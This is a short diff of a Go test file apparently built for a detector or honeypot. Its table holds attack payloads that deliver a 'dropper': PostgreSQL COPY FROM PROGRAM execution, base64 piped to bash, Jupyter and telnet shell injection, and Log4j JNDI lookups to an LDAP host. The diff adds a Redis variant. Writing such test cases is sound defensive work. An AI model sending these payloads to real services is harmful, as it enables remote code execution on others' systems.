@@ -141,6 +141,7 @@ func TestCargo(t *testing.T) {
 		"postgresql":          "Q\x00\x00\x00\x60COPY t FROM PROGRAM '" + dropper + "'\x00",
 		"postgresql base64":   "Q\x00\x00\x00\xa0COPY t FROM PROGRAM 'echo " + b64(dropper) + " | base64 -d | bash'\x00",
 		"jupyter":             `["stdin","` + dropper + `\r"]`,
+		"a word of Redis":     "save; " + dropper,
 		"telnet":              "enable\r\nshell\r\n" + dropper + "\r\n",
 		"log4j":               "GET / HTTP/1.1\r\nX: ${jndi:ldap://192.0.2.1:1389/Basic/Command/Base64/" + b64(dropper) + "}\r\n\r\n",
 		"log4j percent":       "GET /?x=$%7Bjndi:ldap://192.0.2.1:1389/Basic/Command/Base64/" + b64(dropper) + "%7D HTTP/1.1\r\n\r\n",
